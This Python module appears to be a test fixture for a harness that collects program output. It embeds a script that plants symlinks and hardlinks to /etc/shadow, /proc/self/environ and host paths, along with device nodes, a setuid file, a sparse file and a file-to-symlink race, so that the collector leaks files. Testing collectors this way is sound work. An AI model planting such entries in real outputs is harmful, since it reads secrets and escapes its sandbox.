"""What a program leaves in its output to have somebody else's files collected: fifty shapes."""

from __future__ import annotations

PLANT = r"""
import os, socket, sys, threading, time
out, outside = '/app/output', sys.argv[1:]
made = []
def shape(name, how):
    try:
        how(os.path.join(out, name))
        made.append(name)
    except OSError: pass
def link(target): return lambda path: os.symlink(target, path)
def inside(*steps):
    def how(path):
        os.makedirs(path, exist_ok=True)
        for step in steps: step(path)
    return how
up = '../' * 12
targets = {
    'truth': '/app/input/ref/truth.txt', 'truth_relative': '../input/ref/truth.txt', 'reference': '/app/input/ref',
    'input': '/app/input', 'root': '/', 'passwd': '/etc/passwd', 'hostname': up + 'etc/hostname',
    'shadow': '/etc/shadow',
    'environ': '/proc/self/environ', 'parent_environ': '/proc/1/environ', 'maps': '/proc/self/maps',
    'memory': '/proc/self/mem', 'descriptor': '/proc/self/fd/0', 'self_root': '/proc/self/root',
    'self_cwd': '/proc/self/cwd', 'cgroup': '/proc/self/cgroup', 'dev_zero': '/dev/zero', 'dev_random': '/dev/urandom',
    'dev_stdin': '/dev/stdin', 'dev_tty': '/dev/tty', 'loop': 'loop', 'itself': '.', 'above': '..', 'far_above': up,
    'program': '/app/program/main.py', 'shared': '/app/shared', 'tmp': '/tmp', 'home': '/root', 'sys': '/sys/kernel',
    'dangling': 'nothing', 'long': '/' + 'a' * 200, 'odd\nname': '/etc/passwd', '-rf': '/etc/passwd',
    'scores.json': '/etc/passwd', 'metadata': '/etc/passwd', 'detailed_results.html': '/etc/passwd',
    'ping': 'pong', 'pong': 'ping',
}
for name, target in targets.items(): shape(name, link(target))
for number, path in enumerate(outside):  # what lies on the host, by its path and by the way up
    shape('host_%d' % number, link(path))
    shape('host_up_%d' % number, link(up + path.lstrip('/')))
    shape('host_folder_%d' % number, link(os.path.dirname(path)))
shape('chain', link('host_0'))
shape('fifo', os.mkfifo)
shape('socket', lambda path: socket.socket(socket.AF_UNIX).bind(path))
shape('character', lambda path: os.mknod(path, 0o20666, os.makedev(1, 5)))
shape('block', lambda path: os.mknod(path, 0o60666, os.makedev(8, 0)))
shape('deep', inside(lambda p: os.symlink(up + 'etc/passwd', p + '/escape'), lambda p: os.symlink('..', p + '/up')))
shape('hard_a', lambda path: open(path, 'w').write('own'))
shape('hard_b', lambda path: os.link(os.path.join(out, 'hard_a'), path))
shape('hard_system', lambda path: os.link('/etc/passwd', path))
shape('hard_input', lambda path: os.link('/app/input_data/data/rows.csv', path))
shape('sparse', lambda path: open(path, 'w').truncate(1 << 33))
shape('closed', inside(lambda p: open(p + '/kept', 'w').write('kept'), lambda p: os.chmod(p, 0)))
shape('setuid', lambda path: (open(path, 'w').close(), os.chmod(path, 0o6777)))
os.remove(os.path.join(out, 'sparse'))
open(os.path.join(out, 'good.txt'), 'w').write('good')
def flip():  # to the last moment: a file now, a link then
    a, b = os.path.join(out, 'flip'), os.path.join(out, '.next')
    while True:
        for how in (lambda: os.symlink(outside[0] if outside else '/etc/passwd', b), lambda: open(b, 'w').close()):
            try:
                how()
                os.replace(b, a)
            except OSError: pass
for _ in range(2):
    if os.fork() == 0: flip()
time.sleep(0.2)
print(len(made) + 1)
"""
"""Its words: paths of the host that it is to reach. Prints how many shapes it could make; the last is a race."""
